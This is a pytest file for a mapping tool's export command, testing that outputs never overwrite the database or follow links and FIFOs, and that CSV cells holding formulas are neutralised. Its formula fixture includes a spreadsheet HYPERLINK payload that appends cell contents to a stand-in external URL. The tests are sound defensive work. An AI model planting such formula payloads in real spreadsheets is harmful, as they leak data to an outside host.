"""Outputs never destroy inputs (issue 18, found item 1 and "must be true" 2 and 7): ``webmap export -o``
refuses the database in any form of its path, links, FIFOs, devices and existing files (unless
``--overwrite``), replaces a file in one step, and CSV exports neutralise formula cells.

The database holds the demo incidents (real UCDP GED events, geodata/demo_incidents.csv).
"""

from __future__ import annotations

import csv
import io
import os
import sqlite3

import pytest
from conftest import POSTGRES
from helpers import AUTH, UCDP_244637, one_line_exit_2, run_webmap

from webmap.cli import main
from webmap.io.demo import load_demo
from webmap.query import IncidentFilter, count_incidents, select_incidents
from webmap.records import validate_incident
from webmap.roles import BOOTSTRAP
from webmap.store import IncidentStore

ALL = IncidentFilter.build(drafts=True)
needs_sqlite = pytest.mark.skipif(bool(POSTGRES), reason="the database is a file only on SQLite")


@pytest.fixture
def folder(tmp_path):
    """A working folder holding ``data/webmap.db`` with the demo incidents, and ``link`` -> ``data``."""
    (tmp_path / "data").mkdir()
    store = IncidentStore(f"sqlite:///{tmp_path / 'data' / 'webmap.db'}")
    load_demo(store, by=BOOTSTRAP, geodata_dir=tmp_path / "user-geodata")
    store.dispose()
    (tmp_path / "link").symlink_to(tmp_path / "data")
    return tmp_path


def demo_count(path) -> int:
    """The incidents of the SQLite database ``path``, after checking that it is whole."""
    with sqlite3.connect(path) as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        return conn.execute("SELECT count(*) FROM incidents").fetchone()[0]


@needs_sqlite
@pytest.mark.parametrize(
    "database, output",
    [
        ("sqlite:///data/webmap.db", "data/webmap.db"),  # the case: a relative URL, the same path
        ("sqlite:///data/webmap.db", "{folder}/data/webmap.db"),
        ("sqlite:///{folder}/data/webmap.db", "data/webmap.db"),
        ("sqlite:///{folder}/link/webmap.db", "data/webmap.db"),  # the URL goes through a linked folder
        ("sqlite:///data/webmap.db", "link/webmap.db"),  # the output does
        ("sqlite:///data/webmap.db", "data/webmap.db-journal"),  # SQLite would read it as a hot journal
        ("sqlite:///data/webmap.db", "data/webmap.db-wal"),
        ("sqlite:///file:data/webmap.db?mode=rw&uri=true", "data/webmap.db"),
    ],
)
@pytest.mark.parametrize("overwrite", [[], ["--overwrite"]])
def test_export_refuses_the_database_in_every_form_of_its_path(folder, database, output, overwrite):
    database, output = database.format(folder=folder), output.format(folder=folder)
    result = run_webmap(["export", "--format", "csv", "-o", output, *overwrite], folder, database=database)
    one_line_exit_2(result, "is the database webmap reads (WEBMAP_DB)")
    assert demo_count(folder / "data" / "webmap.db") == 1783
    # Only SQLite's own files (its write-ahead log and shared memory): no export, whole or half.
    assert {p.name for p in (folder / "data").iterdir()} <= {"webmap.db", "webmap.db-wal", "webmap.db-shm"}


@needs_sqlite
def test_export_refuses_a_geopackage_database(folder):
    (folder / "data" / "webmap.db").rename(folder / "data" / "webmap.gpkg")
    result = run_webmap(
        ["export", "-o", "data/webmap.gpkg", "--overwrite"], folder, database="sqlite:///data/webmap.gpkg"
    )
    one_line_exit_2(result, "data/webmap.gpkg: is the database")
    assert demo_count(folder / "data" / "webmap.gpkg") == 1783


@needs_sqlite
def test_export_refuses_a_hard_link_to_the_database(folder):
    os.link(folder / "data" / "webmap.db", folder / "copy.db")
    args = ["export", "--format", "csv", "-o", "copy.db", "--overwrite"]
    one_line_exit_2(run_webmap(args, folder, database="sqlite:///data/webmap.db"), "copy.db: is the database")
    assert demo_count(folder / "data" / "webmap.db") == 1783


@pytest.mark.parametrize(
    "make, words",
    [
        (lambda path: path.symlink_to(path.parent / "elsewhere.csv"), "is a symbolic link"),
        (lambda path: os.mkfifo(path), "is not a regular file (it is a named pipe)"),
    ],
)
def test_export_refuses_links_and_fifos(runner, store, tmp_path, make, words):
    path = tmp_path / "out.csv"
    make(path)
    for overwrite in ([], ["--overwrite"]):
        result = runner.invoke(main, ["export", "-o", str(path), *overwrite])
        assert result.exit_code == 2 and words in result.stderr, result.output
    assert not (tmp_path / "elsewhere.csv").exists()  # nothing went through the link
    assert os.path.lexists(path) and not path.is_file()  # the link or FIFO is still there, not a file


@pytest.mark.parametrize(
    "device, words",
    [("/dev/null", "is not a regular file (it is a device)"), ("/dev/stdout", "is a symbolic link")],
)
def test_export_refuses_devices(runner, store, device, words):
    kind = os.lstat(device).st_mode
    result = runner.invoke(main, ["export", "--format", "csv", "-o", device, "--overwrite"])
    assert result.exit_code == 2 and words in result.stderr
    assert os.lstat(device).st_mode == kind


def test_an_existing_file_is_replaced_only_with_overwrite_and_in_one_step(runner, store, tmp_path):
    load_demo(store, by=BOOTSTRAP, geodata_dir=tmp_path / "user-geodata")
    path = tmp_path / "incidents.csv"
    path.write_text("an analyst's notes\n", encoding="utf-8")
    kept = tmp_path / "kept.csv"
    os.link(path, kept)  # a second name for the old file: it must keep the old content
    result = runner.invoke(main, ["export", "-o", str(path)])
    assert result.exit_code == 2
    assert result.stderr == f"Error: {path}: exists: give --overwrite to replace it\n"
    assert path.read_text(encoding="utf-8") == "an analyst's notes\n"
    result = runner.invoke(main, ["export", "-o", str(path), "--overwrite"])
    assert result.exit_code == 0 and "1783 incidents written" in result.output
    assert path.read_text(encoding="utf-8-sig").startswith("id,source,source_id,")
    # Renamed over, not rewritten in place: the old file (its other name) is untouched.
    assert kept.read_text(encoding="utf-8") == "an analyst's notes\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_a_long_file_name_is_written_and_a_too_long_one_is_one_line(runner, store, tmp_path):
    load_demo(store, by=BOOTSTRAP, geodata_dir=tmp_path / "user-geodata")
    long_name = tmp_path / ("a" * 242 + ".csv")  # 246 characters: the partial file's name was too long
    result = runner.invoke(main, ["export", "-o", str(long_name)])
    assert result.exit_code == 0, result.output
    assert long_name.read_text(encoding="utf-8-sig").startswith("id,")
    too_long = tmp_path / ("a" * 300 + ".csv")
    result = runner.invoke(main, ["export", "-o", str(too_long)])
    assert result.exit_code == 2 and "Traceback" not in result.output
    assert result.stderr.count("\n") == 1 and "File name too long" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_an_export_into_a_missing_folder_is_one_line(runner, store, tmp_path):
    result = runner.invoke(main, ["export", "-o", str(tmp_path / "nowhere" / "x.csv")])
    assert result.exit_code == 2 and "no such folder" in result.stderr


# -- CSV formula cells --------------------------------------------------------------------------------
FORMULAS = {
    "notes": '=HYPERLINK("http://example.invalid/?"&A1,"see source")',
    "actor1": "@SUM(A1:A9)",
    "location": "+1+1",
    "source": "-2+3",
}


@pytest.fixture
def formulas(store):
    """One real event (UCDP 244637) whose texts are formulas a spreadsheet would run."""
    return store.add(validate_incident({**UCDP_244637, **FORMULAS}), by=BOOTSTRAP)


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_exports_neutralise_formula_cells(runner, client, formulas, tmp_path):
    path = tmp_path / "out.csv"
    assert runner.invoke(main, ["export", "-o", str(path)]).exit_code == 0
    from_file = csv_rows(path.read_text(encoding="utf-8"))
    from_http = csv_rows(client.get("/export.csv").get_data(as_text=True))
    for rows in (from_file, from_http):
        assert len(rows) == 1
        for name, value in FORMULAS.items():
            assert rows[0][name] == "'" + value, name
        assert rows[0]["event_date"] == "2017-01-05" and rows[0]["latitude"] == "35.468056"


def test_raw_csv_exports_keep_the_cells_as_they_are(runner, client, formulas, tmp_path):
    path = tmp_path / "raw.csv"
    assert runner.invoke(main, ["export", "-o", str(path), "--raw"]).exit_code == 0
    from_file = csv_rows(path.read_text(encoding="utf-8"))
    from_http = csv_rows(client.get("/export.csv?raw=1").get_data(as_text=True))
    for rows in (from_file, from_http):
        assert {name: rows[0][name] for name in FORMULAS} == FORMULAS


def test_raw_is_for_csv_only(runner, client, formulas, tmp_path):
    result = runner.invoke(main, ["export", "-o", str(tmp_path / "x.geojson"), "--raw"])
    assert result.exit_code == 2 and result.stderr.startswith("Error: --raw: only CSV cells are neutralised")
    response = client.get("/export.geojson?raw=1")
    assert response.status_code == 400 and response.get_json()["parameter"] == "raw"
    response = client.get("/export.csv?raw=maybe")
    assert response.status_code == 400 and response.get_json()["parameter"] == "raw"


def test_a_neutralised_export_imports_back_unchanged(runner, store, formulas, tmp_path):
    path = tmp_path / "out.csv"
    assert runner.invoke(main, ["export", "-o", str(path)]).exit_code == 0
    with store.transaction() as conn:
        conn.exec_driver_sql("DELETE FROM incidents")
    assert count_incidents(store, ALL) == 0
    result = runner.invoke(main, ["import", str(path)])
    assert result.exit_code == 0, result.output
    (back,) = select_incidents(store, ALL)
    assert {name: getattr(back, name) for name in FORMULAS} == FORMULAS


def test_the_api_stores_formula_texts_as_they_are(client, store):
    response = client.post("/api/incidents", json={**UCDP_244637, "notes": FORMULAS["notes"]}, headers=AUTH)
    assert response.status_code == 201 and response.get_json()["properties"]["notes"] == FORMULAS["notes"]
